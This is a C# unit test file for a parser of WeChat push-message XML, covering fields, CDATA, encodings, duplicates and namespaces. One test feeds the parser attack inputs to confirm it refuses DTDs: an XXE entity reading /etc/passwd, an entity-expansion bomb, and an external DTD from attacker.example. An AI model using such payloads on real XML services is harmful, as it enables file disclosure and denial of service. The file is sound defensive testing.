using System.Text;
using MpEventRelay.Protocol.Errors;
using MpEventRelay.Protocol.Messages;

namespace MpEventRelay.Protocol.Tests.Messages;

public sealed class WeChatXmlReaderTests
{
    [Fact]
    public void Reads_fields_regardless_of_order_whitespace_and_cdata()
    {
        const string xml = "<xml>\n  <CreateTime> 1409735668 </CreateTime>\n  <MsgType>text</MsgType>\n  <Content><![CDATA[a & b]]></Content>\n  <FromUserName>o1</FromUserName><ToUserName><![CDATA[gh_1]]></ToUserName>\n  <MsgId>6054768590064713728</MsgId></xml>";

        var message = PushMessage.Parse(Vectors.Utf8(xml));

        Assert.Equal("gh_1", message.ToUserName);
        Assert.Equal("o1", message.FromUserName);
        Assert.Equal(1409735668, message.CreateTime);
        Assert.Equal("text", message.MsgType);
        Assert.Equal("a & b", message.Content);
        Assert.Equal("6054768590064713728", message.MsgId);
    }

    [Fact]
    public void Keeps_the_exact_bytes_and_reads_emoji_chinese_and_split_cdata()
    {
        var bytes = Vectors.Utf8(Push("<MsgType>text</MsgType><Content><![CDATA[你好 😀 a]]]]><![CDATA[>b]]></Content>"));

        var message = PushMessage.Parse(bytes);

        Assert.Equal("你好 😀 a]]>b", message.Content);
        Assert.Equal(bytes, message.Xml.ToArray());
    }

    [Fact]
    public void Skips_nested_and_unknown_elements()
    {
        var message = PushMessage.Parse(Vectors.Utf8(Push("<MsgType>event</MsgType><Event>scancode_push</Event><ScanCodeInfo><ScanType>qrcode</ScanType></ScanCodeInfo><Whatever>x</Whatever>")));

        Assert.True(message.EventIs("scancode_push"));
    }

    [Fact]
    public void Reads_template_send_MsgID_with_capital_D()
    {
        var message = PushMessage.Parse(Vectors.Utf8(Push("<MsgType>event</MsgType><Event>TEMPLATESENDJOBFINISH</Event><MsgID>200163836</MsgID><Status>success</Status>")));

        Assert.Equal("200163836", message.MsgId);
    }

    [Theory]
    [InlineData("SCAN")]
    [InlineData("scan")]
    [InlineData("Scan")]
    public void Event_names_are_recognised_in_any_case(string name)
    {
        var message = PushMessage.Parse(Vectors.Utf8(Push($"<MsgType>EVENT</MsgType><Event>{name}</Event><EventKey>123</EventKey>")));

        Assert.True(message.IsEvent);
        Assert.True(message.EventIs("SCAN"));
        Assert.False(message.EventIs("subscribe"));
        Assert.Equal("123", message.Scene);
    }

    [Theory]
    [InlineData("subscribe", "qrscene_123123", "123123")]
    [InlineData("subscribe", "qrscene_qrscene_x", "qrscene_x")]
    [InlineData("subscribe", "last_trade_no_4200001", null)]
    [InlineData("subscribe", "", null)]
    [InlineData("SCAN", "123123", "123123")]
    [InlineData("CLICK", "qrscene_1", null)]
    public void Scene_strips_qrscene_once_and_only_on_subscribe(string @event, string key, string? scene)
    {
        var message = PushMessage.Parse(Vectors.Utf8(Push($"<MsgType>event</MsgType><Event>{@event}</Event><EventKey><![CDATA[{key}]]></EventKey>")));

        Assert.Equal(scene, message.Scene);
    }

    [Theory]
    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><xml><ToUserName>&xxe;</ToUserName></xml>")]
    [InlineData("<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">]><xml><Content>&lol2;</Content></xml>")]
    [InlineData("<!DOCTYPE xml SYSTEM \"http://attacker.example/evil.dtd\"><xml/>")]
    public void Dtds_are_refused_xxe_and_entity_expansion_included(string xml)
    {
        AssertRefused(ProtocolError.Dtd, xml);
    }

    [Fact]
    public void An_undeclared_entity_is_not_expanded()
    {
        AssertRefused(ProtocolError.NotXml, Push("<MsgType>&xxe;</MsgType>"));
    }

    [Theory]
    [InlineData("")]
    [InlineData("success")]
    [InlineData("{\"ToUserName\":\"gh\"}")]
    [InlineData("<xml><ToUserName>unclosed</xml>")]
    [InlineData("<root><ToUserName>a</ToUserName></root>")]
    [InlineData("<xml></xml><xml></xml>")]
    [InlineData("<html><body>502 Bad Gateway</body></html>")]
    public void Non_wechat_xml_is_refused(string body)
    {
        AssertRefused(ProtocolError.NotXml, body);
    }

    [Theory]
    [InlineData("ToUserName")]
    [InlineData("FromUserName")]
    [InlineData("CreateTime")]
    [InlineData("MsgType")]
    [InlineData("Event")]
    [InlineData("EventKey")]
    [InlineData("MsgId")]
    [InlineData("Encrypt")]
    [InlineData("Content")]
    public void A_significant_element_twice_is_refused(string element)
    {
        var xml = $"<xml><ToUserName>g</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime><MsgType>event</MsgType><Event>SCAN</Event><EventKey>k</EventKey><MsgId>1</MsgId><Encrypt>e</Encrypt><Content>c</Content><{element}>2</{element}></xml>";

        var error = Assert.Throws<ProtocolException>(() => WeChatXmlReader.Read(Encoding.UTF8.GetBytes(xml)));

        Assert.Equal(ProtocolError.DuplicateElement, error.Error);
        Assert.Contains(element, error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void MsgId_and_MsgID_together_are_a_duplicate()
    {
        AssertRefused(ProtocolError.DuplicateElement, "<xml><MsgId>1</MsgId><MsgID>2</MsgID></xml>");
    }

    [Fact]
    public void A_WeChat_element_in_a_namespace_is_refused_as_a_second_reading_of_it()
    {
        // A reader that ignores namespaces (WeChat's, a target's) would take x:Event for the Event.
        AssertRefused(ProtocolError.DuplicateElement, "<xml xmlns:x=\"urn:x\"><x:Event>SCAN</x:Event><Event>CLICK</Event></xml>");
        AssertRefused(ProtocolError.DuplicateElement, "<xml><Event>CLICK</Event><FromUserName xmlns=\"urn:x\">oX</FromUserName></xml>");
    }

    [Fact]
    public void Other_elements_in_a_namespace_are_skipped()
    {
        var fields = WeChatXmlReader.Read(Encoding.UTF8.GetBytes("<xml xmlns:x=\"urn:x\"><x:Extra>SCAN</x:Extra><Event>CLICK</Event></xml>"));

        Assert.Equal("CLICK", fields.Event);
    }

    [Fact]
    public void A_root_in_a_namespace_is_not_wechats_xml()
    {
        AssertRefused(ProtocolError.NotXml, "<xml xmlns=\"urn:x\"><ToUserName>g</ToUserName></xml>");
    }

    [Theory]
    [InlineData("unicode")]
    [InlineData("bigendian")]
    [InlineData("utf16-without-bom")]
    public void Only_utf8_is_read(string encoding)
    {
        const string xml = "<xml><ToUserName>g</ToUserName></xml>";
        byte[] body = encoding switch
        {
            "unicode" => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(xml)],
            "bigendian" => [.. Encoding.BigEndianUnicode.GetPreamble(), .. Encoding.BigEndianUnicode.GetBytes(xml)],
            _ => Encoding.Unicode.GetBytes(xml),
        };

        var error = Assert.Throws<ProtocolException>(() => WeChatXmlReader.Read(body));

        Assert.Equal(ProtocolError.NotXml, error.Error);
        Assert.Contains("not UTF-8", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_utf8_byte_order_mark_is_fine()
    {
        byte[] body = [.. Encoding.UTF8.GetPreamble(), .. Encoding.UTF8.GetBytes("<xml><ToUserName>g</ToUserName></xml>")];
        var fields = WeChatXmlReader.Read(body);

        Assert.Equal("g", fields.ToUserName);
    }

    [Theory]
    [InlineData("<xml><FromUserName>o</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>")]
    [InlineData("<xml><ToUserName>g</ToUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>")]
    [InlineData("<xml><ToUserName>g</ToUserName><FromUserName>o</FromUserName><MsgType>text</MsgType></xml>")]
    [InlineData("<xml><ToUserName>g</ToUserName><FromUserName>o</FromUserName><CreateTime>soon</CreateTime><MsgType>text</MsgType></xml>")]
    [InlineData("<xml><ToUserName>g</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime></xml>")]
    public void Missing_required_elements_are_refused(string xml)
    {
        AssertRefused(ProtocolError.MissingElement, xml);
    }

    [Theory]
    [InlineData("<?xml version=\"1.0\" encoding=\"UTF-8\"?>", true)]
    [InlineData("<?xml version='1.0' encoding='utf-8'?>", true)]
    [InlineData("<?xml version=\"1.0\"?>", true)]
    [InlineData("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>", false)]
    [InlineData("<?xml version=\"1.0\" encoding=\"gbk\"?>", false)]
    public void Bytes_are_read_as_UTF_8_and_other_declared_encodings_are_refused(string declaration, bool accepted)
    {
        var body = Vectors.Utf8(declaration + Push("<MsgType>text</MsgType><Content>你好</Content>"));

        if (accepted)
        {
            Assert.Equal("你好", PushMessage.Parse(body).Content);
        }
        else
        {
            Assert.Equal(ProtocolError.NotXml, Assert.Throws<ProtocolException>(() => PushMessage.Parse(body)).Error);
        }
    }

    [Fact]
    public void Bodies_over_the_limit_are_refused_before_parsing()
    {
        var body = Encoding.UTF8.GetBytes(Push($"<MsgType>text</MsgType><Content>{new string('x', 2048)}</Content>"));

        var error = Assert.Throws<ProtocolException>(() => PushMessage.Parse(body, maxBytes: 1024)).Error;

        Assert.Equal(ProtocolError.TooLarge, error);
    }

    internal static string Push(string rest) =>
        $"<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName><FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName><CreateTime>1714112445</CreateTime>{rest}</xml>";

    private static void AssertRefused(ProtocolError expected, string body) =>
        Assert.Equal(expected, Assert.Throws<ProtocolException>(() => PushMessage.Parse(Vectors.Utf8(body))).Error);
}
